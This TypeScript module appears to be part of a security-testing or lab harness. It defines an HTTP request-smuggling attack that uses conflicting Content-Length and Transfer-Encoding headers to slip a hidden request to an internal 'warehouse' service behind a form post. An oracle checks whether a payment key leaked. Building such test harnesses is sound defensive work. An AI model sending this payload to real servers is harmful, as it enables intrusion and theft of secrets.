import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

const head = 'product=7'
const smuggled = 'GET /label-key HTTP/1.1\r\nHost: warehouse\r\n\r\n'

/** A request with two lengths: who stands in front ends it at one place, the program behind at another. */
function ambiguousRequest(trace: string): string {
  const body = head + smuggled
  return [
    'POST /stock/notify HTTP/1.1',
    'Host: localhost',
    'User-Agent: Mozilla/5.0',
    'Accept: text/html',
    `X-Sevenfold-Trace: ${trace}`,
    'Content-Type: application/x-www-form-urlencoded',
    `Content-Length: ${head.length}`,
    'Transfer-Encoding: chunked',
    '',
    body.length.toString(16),
    body,
    '0',
    '',
    '',
  ].join('\r\n')
}

/** Hides a request to a program inside behind the end of another one, and picks up its answer. */
export const smuggledRequest: Attack = defineAttack({
  id: 'smuggled-request',
  class: 'smuggling',
  title: 'Hides a request to a program inside behind the end of another one',
  cwe: 444,
  capec: 33,
  technique: 'T1190',
  preconditions: [],
  steps: async ({ visitor, pause }) => {
    const connection = visitor.raw()
    connection.write(ambiguousRequest([...visitor.traces][0] ?? ''))
    await pause(300)
    connection.close()
    return (await visitor.form('/stock/notify', { product: '8', mail: 'm@example.org' })).text
  },
  oracle: (text, { witness }) => text.includes(witness.loot.paymentKey),
  twin: ({ visitor }) => visitor.form('/stock/notify', { product: '8', mail: 'm@example.org' }),
})
